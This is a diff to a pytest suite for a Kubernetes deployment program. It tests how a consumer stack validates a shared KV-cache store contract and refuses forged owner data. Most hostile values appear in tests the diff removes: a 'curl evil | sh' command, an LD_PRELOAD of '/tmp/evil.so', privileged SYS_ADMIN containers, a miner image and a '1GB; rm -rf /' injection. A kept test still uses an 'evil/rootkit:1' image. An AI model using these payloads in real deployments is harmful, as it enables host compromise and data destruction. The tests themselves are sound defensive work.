@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import copy
+import json
 
 import pytest
 
@@ -37,10 +38,11 @@ def failure(outputs: dict | None, **changes) -> str:
 def test_contract_fields(provider_outputs):
     contract = provider_outputs["kv_store"]
     assert {key: contract[key] for key in ("schema", "stack", "backend", "host", "port", "metrics_port", "namespace",
-                                           "deploy_mode", "allowed_consumers")} == {
-        "schema": 1, "stack": A, "backend": "memcache",
+                                           "deploy_mode", "allowed_consumers", "standalone_store")} == {
+        "schema": 2, "stack": A, "backend": "memcache",
         "host": "mindie-motor-kvs-master.service-a.svc.cluster.local", "port": 50088, "metrics_port": 50090,
         "namespace": "service-a", "deploy_mode": "multi_deployment", "allowed_consumers": ["service-b"],
+        "standalone_store": False,
     }
     assert {k: v for k, v in contract["compatibility"].items() if k != "key"} == {
         "model": "/mnt/weight/qwen3_8B", "served_model_name": "qwen3-8B", "quantization": None, "dtype": None,
@@ -101,7 +103,7 @@ def test_older_schema(provider_outputs):
     outputs = copy.deepcopy(provider_outputs)
     outputs["kv_store"]["schema"] = 0
     assert failure(outputs).endswith(
-        f"kv_cache_store_config.target_stack: {A} exports kv_store schema 0, but {B} reads schema 1; run `pulumi up` "
+        f"kv_cache_store_config.target_stack: {A} exports kv_store schema 0, but {B} reads schema 2; run `pulumi up` "
         f"on {A} with this motor-kvpool."
     )
 
@@ -252,12 +254,11 @@ def test_forged_host_path_is_refused(provider_outputs):
     ]
 
 
-def test_forged_sidecar_on_a_memcache_store_is_refused(provider_outputs):
-    privileged = {"name": "mooncake-store", "image": "evil/rootkit:1", "securityContext": {"privileged": True}}
-    message = forged(provider_outputs, lambda kv: kv.update(sidecars=[privileged]))
+@pytest.mark.parametrize("forgery", [True, "yes"])
+def test_a_standalone_store_forged_on_a_memcache_store_is_refused(provider_outputs, forgery):
+    message = forged(provider_outputs, lambda kv: kv.update(standalone_store=forgery))
     assert message.splitlines()[1:] == [
-        f"  - {A}'s kv_store.sidecars: only a Mooncake store runs a container beside the engines (one: "
-        f"mooncake-store); refusing 1 for a memcache store"
+        f"  - {A}'s kv_store.standalone_store: must be false for a memcache store, or true or false for a mooncake store"
     ]
 
 
@@ -273,79 +274,72 @@ def test_forged_host_is_refused(provider_outputs):
 @pytest.fixture(scope="module")
 def standalone_pair() -> tuple[dict, dict]:
     provider, consumer = mooncake_pair(lease=11000)
-    # tcp: a standalone store on the ascend transport is refused (its container has no NPU)
     for service in (provider, consumer):
-        service["kv_cache_store_config"].update(store_mode="standalone", protocol="tcp")
+        service["kv_cache_store_config"].update(store_mode="standalone")
     return render(provider, stack="service-a").run.outputs, consumer
 
 
-def consume_standalone(pair: tuple[dict, dict], change=None, **store):
+def consume_standalone(pair: tuple[dict, dict], **store):
     outputs, consumer = copy.deepcopy(pair[0]), copy.deepcopy(pair[1])
     consumer["kv_cache_store_config"].update(store)
-    if change:
-        change(outputs["kv_store"]["sidecars"][0])
     return render(consumer, stack="service-b", stack_references={A: outputs})
 
 
-def standalone_failure(pair, change=None, **store) -> list[str]:
+def standalone_failure(pair, **store) -> list[str]:
     with pytest.raises(ProgramError) as caught:
-        consume_standalone(pair, change, **store)
+        consume_standalone(pair, **store)
     return str(caught.value).splitlines()[1:]
 
 
-def test_the_standalone_store_is_rebuilt_by_the_consumer(standalone_pair):
+def test_a_consumer_of_a_standalone_store_runs_the_store_process_in_its_own_engines(standalone_pair):
+    """Motor's node manager in the consumer's engine container starts the store from the consumer's own
+    user_config.json: nothing of the owner's runs in the consumer's pods but its client file."""
+    assert standalone_pair[0]["kv_store"]["standalone_store"] is True
     rendered = consume_standalone(standalone_pair)
-    sidecar = rendered.container("Deployment", "vllm-p0", "mooncake-store")
-    assert sidecar["securityContext"] == {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
-    assert sidecar["image"] == stack_values("service-b")["motor_deploy_config"]["image_name"]
+    spec = rendered.get("Deployment", "vllm-p0")["spec"]["template"]["spec"]
+    assert [c["name"] for c in spec["containers"]] == ["vllm"]
+    assert {"name": "kv-client-dir", "emptyDir": {}} in spec["volumes"]
+    store = json.loads(rendered.get("ConfigMap", "motor-config")["data"]["user_config.json"])["kv_cache_store_config"]
+    assert (store["store_mode"], store["protocol"]) == ("standalone", "ascend")
 
 
-def test_a_privileged_owner_sidecar_is_refused(standalone_pair):
-    def escalate(sidecar: dict) -> None:
-        sidecar["securityContext"] = {"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}}
-        sidecar["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
-
-    assert standalone_failure(standalone_pair, escalate) == [
-        f"  - {A}'s kv_store.sidecars[0].securityContext: differs from the standalone store container the consumer "
-        f"builds from the owner's data; an owner may not set it",
-        f"  - {A}'s kv_store.sidecars[0].volumeMounts: differs from the standalone store container the consumer "
-        f"builds from the owner's data; an owner may not set it",
+def test_a_consumer_in_another_store_mode_than_its_owner_is_refused(standalone_pair):
+    assert standalone_failure(standalone_pair, store_mode="embedded") == [
+        f"  - kv_cache_store_config.store_mode: {B} is 'embedded' but {A}'s store is 'standalone' "
+        f"(kv_store.standalone_store), so {B}'s engines hold no segment (the owner's mooncake.json gives them 0), "
+        f"and no store process would hold one; write store_mode: standalone."
     ]
 
 
-def test_an_owner_sidecar_with_ld_preload_or_another_command_is_refused(standalone_pair):
-    def inject(sidecar: dict) -> None:
-        sidecar["env"].append({"name": "LD_PRELOAD", "value": "/tmp/evil.so"})
-        sidecar["command"] = ["/bin/sh", "-c", "curl evil | sh", "--port=0"]
-
-    assert standalone_failure(standalone_pair, inject) == [
-        f"  - {A}'s kv_store.sidecars[0].command: differs from the standalone store container the consumer builds "
-        f"from the owner's data; an owner may not set it",
-        f"  - {A}'s kv_store.sidecars[0].env.LD_PRELOAD: differs from the standalone store's own environment (only "
-        f"its segment size, protocol, device and metadata server come from the owner)",
+def test_a_consumer_on_another_transport_than_its_owner_is_refused(standalone_pair):
+    assert standalone_failure(standalone_pair, protocol="tcp") == [
+        f"  - kv_cache_store_config.protocol: {B} is 'tcp' but {A}'s mooncake.json uses 'ascend'; one pool has one "
+        f"transport, write protocol: ascend."
     ]
 
 
-def test_an_owner_sidecar_image_outside_the_consumers_allow_list_is_refused(standalone_pair):
-    def swap(sidecar: dict) -> None:
-        sidecar["image"] = "registry.evil/miner:1"
+def test_an_older_owners_sidecar_is_not_run(standalone_pair):
+    """Schema 1 owners exported the standalone store container; the consumer runs none and asks for an up there."""
+    outputs, consumer = copy.deepcopy(standalone_pair)
+    outputs["kv_store"].update(schema=1, sidecars=[{"name": "mooncake-store", "image": "evil/rootkit:1"}])
+    with pytest.raises(ProgramError) as caught:
+        render(consumer, stack="service-b", stack_references={A: outputs})
+    assert str(caught.value).endswith(
+        f"kv_cache_store_config.target_stack: {A} exports kv_store schema 1, but {B} reads schema 2; run `pulumi up` "
+        f"on {A} with this motor-kvpool."
+    )
 
-    [line] = standalone_failure(standalone_pair, swap)
-    assert line.startswith(f"  - {A}'s kv_store.sidecars[0].image: 'registry.evil/miner:1' is not an image this "
-                           f"service allows in its engine pods (")
-    assert line.endswith("add it to kv_cache_store_config.allowed_sidecar_images if you trust it")
-    rendered = consume_standalone(standalone_pair, swap, allowed_sidecar_images=["registry.evil/miner:1"])
-    assert rendered.container("Deployment", "vllm-p0", "mooncake-store")["image"] == "registry.evil/miner:1"
 
-
-def test_an_owner_sidecar_with_a_bad_segment_size_is_refused(standalone_pair):
-    def bad_size(sidecar: dict) -> None:
-        for entry in sidecar["env"]:
-            if entry["name"] == "MOONCAKE_GLOBAL_SEGMENT_SIZE":
-                entry["value"] = "1GB; rm -rf /"
-
-    [line] = standalone_failure(standalone_pair, bad_size)
-    assert line.startswith(f"  - {A}'s kv_store.sidecars[0].env.MOONCAKE_GLOBAL_SEGMENT_SIZE: ")
+def test_allowed_sidecar_images_is_refused_with_what_replaced_it():
+    values = stack_values("service-b")
+    values["kv_cache_store_config"]["allowed_sidecar_images"] = ["registry.example/mooncake:1"]
+    with pytest.raises(SettingsError) as caught:
+        load_from_pulumi_config(values, "service-b")
+    assert caught.value.problems == [
+        "kv_cache_store_config.allowed_sidecar_images: allowed_sidecar_images is gone with the store container it "
+        "admitted: a standalone Mooncake store now runs in this service's own engine containers, started by Motor's "
+        "node manager; remove it"
+    ]
 
 
 @pytest.mark.parametrize(("written", "where", "them"), [
